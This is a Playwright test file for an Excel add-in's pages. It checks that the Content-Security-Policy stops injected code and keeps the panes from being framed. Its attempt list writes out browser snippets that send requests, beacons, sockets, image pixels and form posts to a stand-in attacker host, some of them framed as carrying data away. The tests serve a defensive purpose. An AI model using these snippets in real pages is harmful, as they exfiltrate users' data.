/** The policy of every page, held against a browser: what it forbids does not happen, and using the add-in breaks none of it. */

import { type BrowserContext, type Frame, type Page, type Request } from 'playwright-core';
import { browser, closeBrowser, openWorkbench } from './browser';
import { PaneDriver, SAMPLE } from './pane-driver';

/** No address of it is ever asked for: the policy stops each before the network. */
const FOREIGN = 'https://jahat.example/';

interface Attempt {
  readonly what: string;
  /** The directive that must stop it. */
  readonly directive: string;
  /** Runs in the page, where it finds nothing of this file. */
  readonly attempt: (foreign: string) => unknown;
}

/** What a hostile text that got into the page would try. */
const ATTEMPTS: readonly Attempt[] = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
    },
  },
  {
    what: 'an inline handler',
    directive: 'script-src-attr',
    attempt: () => document.body.insertAdjacentHTML('beforeend', '<b onclick="window.ran = true"></b>'),
  },
  {
    what: 'a script of another site',
    directive: 'script-src-elem',
    attempt: (foreign) =>
      document.body.append(Object.assign(document.createElement('script'), { src: `${foreign}a.js` })),
  },
  {
    what: 'text run as code',
    directive: 'script-src',
    // A moment later: what the driver itself evaluates may do so in spite of the policy.
    attempt: () =>
      setTimeout(() => {
        new Function('window.ran = true')();
      }),
  },
  { what: 'a request elsewhere', directive: 'connect-src', attempt: (foreign) => fetch(foreign).catch(() => null) },
  { what: 'a beacon', directive: 'connect-src', attempt: (foreign) => navigator.sendBeacon(foreign, 'isi') },
  {
    what: 'a socket',
    directive: 'connect-src',
    attempt: (foreign) => {
      new WebSocket(foreign.replace('https', 'wss'));
    },
  },
  {
    what: 'a picture that carries data away',
    directive: 'img-src',
    attempt: (foreign) => document.body.append(Object.assign(new Image(), { src: `${foreign}?isi` })),
  },
  {
    what: 'a frame',
    directive: 'frame-src',
    attempt: (foreign) => document.body.append(Object.assign(document.createElement('iframe'), { src: foreign })),
  },
  {
    what: 'an embedded object',
    directive: 'object-src',
    attempt: (foreign) => document.body.append(Object.assign(document.createElement('object'), { data: foreign })),
  },
  {
    what: 'a style sheet of another site',
    directive: 'style-src-elem',
    attempt: (foreign) => {
      const sheet = { rel: 'stylesheet', href: `${foreign}a.css` };
      document.head.append(Object.assign(document.createElement('link'), sheet));
    },
  },
  {
    what: 'a form',
    directive: 'form-action',
    attempt: (foreign) => {
      const form = Object.assign(document.createElement('form'), { action: foreign, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  {
    what: 'another base for addresses',
    directive: 'base-uri',
    attempt: (foreign) => document.head.append(Object.assign(document.createElement('base'), { href: foreign })),
  },
];

interface Watched {
  broken: string[];
  ran?: boolean;
}

/** From the page's first moment on it notes what the browser says was broken. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const window_ = window as unknown as Watched;
    window_.broken = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window_.broken.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
}

const brokenIn = (page: Page | Frame) => page.evaluate(() => (window as unknown as Watched).broken);
const ranIn = (page: Page | Frame) => page.evaluate(() => (window as unknown as Watched).ran ?? false);

async function holdsAgainstAll(page: Page | Frame): Promise<void> {
  const stopped: string[][] = [];
  for (const { what, attempt } of ATTEMPTS) {
    await page.evaluate(() => ((window as unknown as Watched).broken = []));
    await page.evaluate(attempt, FOREIGN);
    const directives = await eventuallyBroken(page);
    stopped.push([what, ...directives]);
  }
  expect(stopped).toEqual(ATTEMPTS.map(({ what, directive }) => [what, directive]));
  expect(await ranIn(page)).toBe(false);
}

/** The browser tells of a broken directive a moment later. */
async function eventuallyBroken(page: Page | Frame): Promise<readonly string[]> {
  for (let tries = 0; tries < 40; tries += 1) {
    const found = await brokenIn(page);
    if (found.length > 0) return [...new Set(found.map((each) => each.split(' ')[0] ?? ''))];
    await page.waitForTimeout(50);
  }
  return [];
}

let context: BrowserContext;
/** Foreign addresses that anything but the policy kept from being asked, or nothing at all. */
const escaped: string[] = [];

function watchNetwork(of: BrowserContext): void {
  const note = (request: Request) => {
    const why = request.failure()?.errorText ?? 'answered';
    if (request.url().startsWith(FOREIGN) && why !== 'csp') escaped.push(`${request.url()} ${why}`);
  };
  of.on('requestfailed', note).on('requestfinished', note);
}

const home = () => process.env['WORKBENCH_URL'] ?? 'https://localhost:3000/workbench.html';

beforeEach(async () => {
  escaped.length = 0;
  context = await (await browser()).newContext({ ignoreHTTPSErrors: true });
  watchNetwork(context);
});
afterEach(() => context.close());
afterAll(closeBrowser);

test.each(['meja.html', 'bantuan/panduan.html'])('%s: nothing that is injected runs or leaves', async (name) => {
  const page = await context.newPage();
  await watch(page);
  await page.goto(new URL(name, home()).href);
  await page.waitForLoadState('networkidle');
  expect(await brokenIn(page)).toEqual([]);
  await holdsAgainstAll(page);
  expect(escaped).toEqual([]);
});

test('the pane: every page of it is used without a broken rule; then nothing that is injected runs or leaves', async () => {
  const session = await openWorkbench({ open: '' });
  const driver = PaneDriver.on(session);
  try {
    watchNetwork(session.page.context());
    await watch(session.page);
    await session.page.reload();
    await session.page.goto(`${session.page.url().replace('buka=', `buka=${encodeURIComponent(SAMPLE)}`)}`);
    await driver.pane.getByRole('tab', { name: 'Validasi' }).waitFor();
    await driver.validate();
    await driver.count(await driver.items().count());
    for (const name of ['Templat', 'Fungsi', 'Kamus', 'Laporan', 'Pengaturan', 'Validasi']) await driver.tab(name);
    const pane = session.page.frame({ name: 'taskpane' });
    if (!pane) throw new Error('There is no pane.');
    expect(await brokenIn(pane)).toEqual([]);
    await holdsAgainstAll(pane);
    expect(escaped).toEqual([]);
    expect(await driver.items().count()).toBeGreaterThan(0);
  } finally {
    await session.close();
  }
});

test('a site that is not Excel cannot show the pane, the desk or a guide in a frame', async () => {
  const page = await context.newPage();
  const frames = ['taskpane.html', 'meja.html', 'bantuan/panduan.html'].map((name) => new URL(name, home()).href);
  const body = frames.map((address) => `<iframe src="${address}"></iframe>`).join('');
  await page.route(FOREIGN, (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto(FOREIGN);
  await page.waitForLoadState('networkidle');
  const shown = page.frames().filter((frame) => frame !== page.mainFrame());
  expect(shown.map((frame) => frame.url())).toEqual(frames.map(() => 'chrome-error://chromewebdata/'));
});
